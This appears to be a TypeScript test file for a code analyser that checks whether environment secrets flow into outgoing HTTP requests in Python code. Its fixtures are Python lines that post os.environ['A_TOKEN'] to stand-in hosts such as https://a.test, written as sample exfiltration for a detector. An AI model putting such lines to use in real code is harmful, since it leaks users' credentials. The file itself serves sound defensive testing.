import { beforeAll, expect, test } from 'vitest';
import { analyseCode } from './analysis.ts';
import { loadParser } from './syntax-tree.ts';

beforeAll(loadParser);

const requests = (text: string) =>
  analyseCode([
    { file: 'a.py', line: 1, language: 'python', text: `import os, requests\n${text}` },
  ]).effects.flatMap((effect) =>
    effect.kind === 'request' ? [`${effect.url} ${effect.body.map(({ what }) => what).join()}`] : [],
  );

test('a call is followed for each text that it is given, however often it was called before', () => {
  const calls = Array.from({ length: 60 }, (_, index) => `get("https://host${index}.test/" + str(index))`);
  const found = new Set(requests(`def get(url):\n    requests.get(url)\n${calls.join('\n')}\n`));
  for (let index = 0; index < 60; index++) expect([...found].join()).toContain(`https://host${index}.test/`);
});

test('a function that is called again finds what was set in the meantime', () => {
  const text =
    'held = ""\ndef send():\n    requests.post("https://a.test", data=held)\nsend()\nheld = os.environ["A_TOKEN"]\nsend()\n';
  expect(requests(text).join()).toContain('A_TOKEN');
});

test('a secret is told from a text without one', () => {
  const text =
    'def send(value):\n    requests.post("https://a.test", data=value)\nsend("a")\nsend(os.environ["A_TOKEN"])\nsend("a")\n';
  expect(requests(text).join()).toContain('A_TOKEN');
});

test.each([
  [
    'a global',
    'held = ""\ndef send():\n    requests.post("https://a.test", data=held)\n',
    'held = ',
    'send()',
  ],
  [
    'a record',
    'box = {"held": ""}\ndef send():\n    requests.post("https://a.test", data=box["held"])\n',
    'box["held"] = ',
    'send()',
  ],
])('harmless calls do not hide a later one with a secret in %s', (_, defined, assigned, call) => {
  const harmless = Array.from({ length: 4 }, (__, index) => `${assigned}"text ${index}"\n${call}\n`).join('');
  const text = `${defined}${harmless}${assigned}os.environ["A_TOKEN"]\n${call}\n`;
  expect(requests(text).join()).toContain('A_TOKEN');
});
